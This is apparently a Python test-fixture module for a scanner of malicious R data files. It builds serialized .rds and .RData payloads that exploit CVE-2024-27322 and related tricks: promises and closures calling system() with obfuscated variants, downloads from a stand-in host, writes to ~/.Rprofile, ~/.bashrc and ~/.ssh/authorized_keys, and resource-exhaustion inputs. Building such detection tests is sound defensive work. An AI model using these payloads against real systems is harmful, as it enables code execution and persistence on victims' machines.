"""R data that runs something when it is loaded, used or printed (CVE-2024-27322 and its kin)."""

# ruff: noqa: E501 (a table reads better with one entry a line)

import bz2
import gzip
import lzma
import struct
from collections.abc import Callable, Iterator
from functools import partial

from proofs.hostile.case import COMMAND, Case
from proofs.hostile.treefiles import PICKLE

NULL = struct.pack(">I", 254)
UNBOUND = struct.pack(">I", 252)
MISSING = struct.pack(">I", 251)
GLOBAL = struct.pack(">I", 253)
BASE = struct.pack(">I", 250)
HEADER = b"X\n" + struct.pack(">3i", 3, 0x040202, 0x030500) + struct.pack(">i", 5) + b"UTF-8"
OLD_HEADER = b"X\n" + struct.pack(">3i", 2, 0x030602, 0x020300)


def word(value: int) -> bytes:
    """A number or flags."""
    return struct.pack(">i", value)


def character(text: str) -> bytes:
    """A CHARSXP."""
    return word(0x40009) + word(len(text.encode())) + text.encode()


def symbol(name: str) -> bytes:
    """A SYMSXP; written in full each time, which R reads as well."""
    return word(1) + character(name)


def texts(*values: str) -> bytes:
    """A vector of texts."""
    return word(16) + word(len(values)) + b"".join(map(character, values))


def pairs(*items: tuple[str, bytes], kind: int = 2) -> bytes:
    """A pairlist (or, for another kind, a call) with tags where they are not empty."""
    out = b""
    for index, (tag, value) in enumerate(items):
        flags = (kind if not index else 2) | (0x400 if tag else 0)
        out += word(flags) + (symbol(tag) if tag else b"") + value
    return out + NULL


def call(head: bytes | str, *arguments: bytes, **named: bytes) -> bytes:
    """A LANGSXP."""
    first = symbol(head) if isinstance(head, str) else head
    items = [("", first), *(("", a) for a in arguments), *named.items()]
    return pairs(*items, kind=6)


def promise(expression: bytes) -> bytes:
    """A PROMSXP without a value, in the global environment."""
    return word(5 | 0x400) + GLOBAL + UNBOUND + expression


def function(body: bytes, environment: bytes = GLOBAL) -> bytes:
    """A CLOSXP without arguments."""
    return word(3 | 0x400) + environment + NULL + body


def listed(*values: bytes, names: tuple[str, ...] = ()) -> bytes:
    """A VECSXP, with names."""
    out = word(19 | (0x200 if names else 0)) + word(len(values)) + b"".join(values)
    return out + (pairs(("names", texts(*names))) if names else b"")


def environment(*items: tuple[str, bytes]) -> bytes:
    """An ENVSXP."""
    return word(4) + word(0) + GLOBAL + (pairs(*items) if items else NULL) + NULL + NULL


def compiled(*constants: bytes) -> bytes:
    """A BCODESXP whose constants are given with their types."""
    code = word(13) + word(2) + word(12) + word(1)
    return word(21) + word(1) + code + word(len(constants)) + b"".join(constants)


SYSTEM = call("system", texts(COMMAND))


def promises() -> dict[str, bytes]:
    """Expressions that run when a value is used."""
    workspace = b"RDX3\n" + HEADER + pairs(("model", promise(SYSTEM)))
    ascii_form = (
        b"A\n3\n262658\n197888\n5\nUTF-8\n1029\n253\n252\n6\n1\n262153\n6\nsystem\n2\n16\n1\n262153\n"
        + str(len(COMMAND)).encode() + b"\n" + COMMAND.replace(" ", "\\040").encode() + b"\n254\n"
    )  # fmt: skip
    return {
        "promise.rds": HEADER + promise(SYSTEM),
        "promise-gz.rds": gzip.compress(HEADER + promise(SYSTEM), mtime=0),
        "promise-bz2.rds": bz2.compress(HEADER + promise(SYSTEM)),
        "promise-xz.rds": lzma.compress(HEADER + promise(SYSTEM)),
        "promise-v2.rds": OLD_HEADER + promise(SYSTEM),
        "promise-ascii.rds": ascii_form,
        "promise-in-list.rds": HEADER + listed(texts("x"), promise(SYSTEM), names=("a", "b")),
        "promise-in-attribute.rds": HEADER + word(16 | 0x200) + word(0) + pairs(("class", promise(SYSTEM))),
        "promise-harmless-call.rds": HEADER + promise(call("print", texts("seamark"))),
        "promise-workspace.RData": gzip.compress(workspace, mtime=0),
        "promise-compiled.rds": HEADER + promise(compiled(word(1) + symbol("system"))),
        "promise-in-environment.rds": HEADER + environment(("x", promise(SYSTEM))),
    }  # fmt: skip


def codes() -> dict[str, bytes]:
    """Functions and calls that a program runs when it uses the object."""
    parse = call("parse", text=texts("1"))
    join = call("paste0", texts("sys"), texts("tem"))
    raw = HEADER + promise(SYSTEM)
    return {
        "closure-system.rds": HEADER + listed(function(SYSTEM), names=("predict",)),
        "closure-qualified.rds": HEADER + function(call(call("::", symbol("base"), symbol("system2")), texts("echo"))),
        "closure-do-call.rds": HEADER + function(call("do.call", join, listed(texts(COMMAND)))),
        "closure-get.rds": HEADER + function(call(call("get", texts("system")), texts(COMMAND))),
        "closure-internal.rds": HEADER + function(call(".Internal", call("system", texts(COMMAND)))),
        "closure-lapply.rds": HEADER + function(call("lapply", texts(COMMAND), symbol("system"))),
        "closure-eval-parse.rds": HEADER + function(call("eval", parse)),
        "closure-download.rds": HEADER + function(call("download.file", texts("http://seamark.invalid/x"), texts("x"))),
        "closure-dyn-load.rds": HEADER + function(call("dyn.load", texts("x.so"))),
        "closure-source.rds": HEADER + function(call("source", texts("http://seamark.invalid/x.R"))),
        "closure-parenthesis.rds": HEADER + function(call(call("(", symbol("system")), texts(COMMAND))),
        "closure-alias.rds": HEADER + function(call("{", call("<-", symbol("r"), symbol("system")), call("r", texts(COMMAND)))),
        "closure-handed-on.rds": HEADER + function(call("seamark", texts(COMMAND), symbol("system"))),
        "closure-handed-on-late.rds": HEADER + function(call("seamark", *[texts("x")] * 300, symbol("system2"))),
        "closure-parsed-later.rds": HEADER + function(call("<-", symbol("e"), call("str2lang", texts("system('echo seamark-harmless')")))),
        "closure-parsed-text.rds": HEADER + function(call("<-", symbol("e"), call("parse", text=symbol("x")))),
        "closure-default.rds": HEADER + word(3 | 0x400) + GLOBAL + pairs(("r", symbol("system"))) + call("r", texts(COMMAND)),
        "closure-namespace.rds": HEADER + function(call(call("$", call("asNamespace", texts("base")), symbol("system")), texts(COMMAND))),
        "closure-environment.rds": HEADER + function(call("<-", symbol("r"), call("[[", call("baseenv"), texts("system")))),
        "closure-branch.rds": HEADER + function(call(call("if", symbol("TRUE"), symbol("system")), texts(COMMAND))),
        "closure-find.rds": HEADER + function(call("Find", symbol("system"), texts(COMMAND))),
        "closure-decoded.rds": HEADER + function(call(call("get", call("intToUtf8", symbol("x"))), texts(COMMAND))),
        "closure-reversed.rds": HEADER + function(call("do.call", call("rev", texts("metsys")), listed(texts(COMMAND)))),
        "closure-unserialize.rds": HEADER + function(call("eval", call("unserialize", symbol("x")))),
        "closure-profile.rds": HEADER + function(call("writeLines", texts("1"), texts("~/.Rprofile"))),
        "closure-cat.rds": HEADER + function(call("cat", texts("1"), file=texts("~/.bashrc"))),
        "closure-keys.rds": HEADER + function(call("file", call("file.path", texts("~/.ssh"), texts("authorized_keys")), texts("a"))),
        "closure-copy.rds": HEADER + function(call("file.copy", texts("x"), texts("~/.Rprofile"))),
        "closure-address.rds": HEADER + function(call("readLines", texts("http://seamark.invalid/?x"))),
        "closure-restore.rds": HEADER + function(call("readRDS", texts("/tmp/seamark.rds"))),
        "closure-python.rds": HEADER + function(call(call("::", symbol("reticulate"), symbol("py_run_string")), texts("1"))),
        "closure-processx.rds": HEADER + function(call(call("::", symbol("processx"), symbol("run")), texts("echo"))),
        "closure-attaches.rds": HEADER + function(call("library", symbol("processx"))),
        "closure-options.rds": HEADER + function(call("options", pager=texts("echo seamark-harmless"))),
        "promise-waits.rds": HEADER + environment(("x", promise(call(call("(", symbol("system")), texts(COMMAND))))),
        "closure-native.rds": HEADER + function(call(".Call", texts("seamark_native"), texts("x"))),
        "closure-install.rds": HEADER + function(call("install.packages", texts("seamark.invalid"))),
        "compiled-system.rds": HEADER + word(3 | 0x400) + GLOBAL + NULL + compiled(word(1) + symbol("system")),
        "model-call.rds": HEADER + listed(call("lm", symbol("y"), data=SYSTEM), names=("call",)),
        "formula.rds": HEADER + call("~", symbol("y"), SYSTEM),
        "expression.rds": HEADER + word(20) + word(1) + SYSTEM,
        "s4-slot.rds": HEADER + word(25 | 0x200) + pairs(("score", function(SYSTEM))),
        "first.RData": b"RDX3\n" + HEADER + pairs((".First", function(call("cat", texts("seamark"))))),
        "masks-print.RData": b"RDX3\n" + HEADER + pairs(("print", function(call("cat", texts("seamark"))))),
        "altrep-mmap.rds": HEADER + word(238) + pairs(("", symbol("mmap_real")), ("", symbol("base")), ("", word(13) + word(1) + word(14))) + texts("/etc/hostname") + NULL,
        "altrep-foreign.rds": HEADER + word(238) + pairs(("", symbol("seamark")), ("", symbol("seamarkpkg")), ("", word(13) + word(1) + word(14))) + texts("x") + NULL,
        "raw-nested.rds": HEADER + word(24) + word(len(raw)) + raw,
        "raw-pickle.rds": HEADER + word(24) + word(len(PICKLE)) + PICKLE,
        "trailing.rds": HEADER + texts("x") + PICKLE,
        "length-huge.rds": HEADER + word(14) + word(0x7FFFFFFF),
        "nesting.rds": HEADER + (word(19) + word(1)) * 200_000 + NULL,
        "persistent.rds": HEADER + word(247) + word(0) + word(1) + character("env::1"),
    }  # fmt: skip


_TABLES = {"promises": (promises, "CVE-2024-27322"), "codes": (codes, "own")}
_ONLY_STOPPED = {"length-huge.rds", "nesting.rds", "persistent.rds"}


def cases() -> Iterator[Case]:
    """One case an entry."""
    for group, (table, source) in _TABLES.items():
        for name in table():
            yield Case(
                id=f"r/{group}/{name.replace('.', '-')}",
                family="r",
                group=group,
                source=source,
                path=f"r/{name}",
                build=partial(_build, table, name),
                expected="stopped" if name in _ONLY_STOPPED else "found",
            )


def _build(table: Callable[[], dict[str, bytes]], name: str) -> bytes:
    return table()[name]
